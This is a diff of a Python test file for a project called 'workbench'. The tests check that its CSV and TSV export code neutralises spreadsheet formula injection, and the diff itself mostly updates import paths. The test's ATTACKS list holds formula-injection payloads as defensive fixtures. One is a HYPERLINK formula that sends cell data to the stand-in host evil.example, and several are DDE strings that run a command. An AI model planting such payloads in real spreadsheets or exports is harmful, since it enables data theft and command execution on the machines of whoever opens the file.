@@ -8,10 +8,10 @@ import io
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from workbench.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row
+from workbench.core.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]
 
 
 @pytest.mark.parametrize("cell", ATTACKS)
@@ -51,11 +51,10 @@ TERMS = st.one_of(st.sampled_from(ATTACKS + ["-ization", "+7 495", "@UN", "=", "
 @settings(max_examples=60, deadline=None)
 @given(st.lists(TERMS, min_size=1, max_size=4), st.sampled_from(ATTACKS))
 def test_glossary_csv_and_tsv_exports_neutralise_formulas_and_round_trip(terms, definition):
-    pytest.importorskip("workbench.glossary")
     import tempfile
     from pathlib import Path
 
-    from workbench.errors import WorkbenchError
+    from workbench.core.errors import WorkbenchError
     from workbench.glossary import Glossary
 
     g = Glossary([], None)
